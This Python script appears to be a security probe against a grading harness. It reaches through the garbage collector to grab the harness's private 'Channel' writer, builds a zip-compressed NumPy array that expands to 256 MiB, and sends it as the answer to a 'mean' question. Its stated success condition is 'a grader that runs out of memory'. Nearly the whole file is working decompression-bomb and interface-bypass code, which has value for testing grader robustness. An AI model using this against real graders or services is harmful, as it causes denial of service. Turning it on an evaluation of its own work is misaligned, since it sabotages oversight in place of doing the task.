"""Sends arrays that are small as sent and large when unpacked: deflated, overlapping, or with sizes that lie."""

SOURCE = "CWE-409; Fifield 2019, A better zip bomb"
SUCCESS = "a grader that runs out of memory"
PROOF = "stopped"

# %%
import gc
import json
import struct
import time

channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


def say(body, arrays=b"", pause=0.0):
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    channel._writer.write(struct.pack("<II", len(text), len(arrays)) + text + arrays)
    channel._writer.flush()
    time.sleep(pause)


import io
import zipfile


def bomb():
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (33554432,), }"
    header += b" " * (117 - len(header)) + b"\n"
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("a0.npy", "w") as file,
    ):
        file.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)
        for _ in range(64):
            file.write(bytes(4 << 20))
    return packed.getvalue()


# %% question="mean"
def mean(values):
    data = bomb()
    print("attempted:", len(data), "bytes for 256 MiB")
    say({"event": "observed", "probe": "means", "value": {"mean": {"$array": "a0"}}, "fault": None}, data, pause=2)
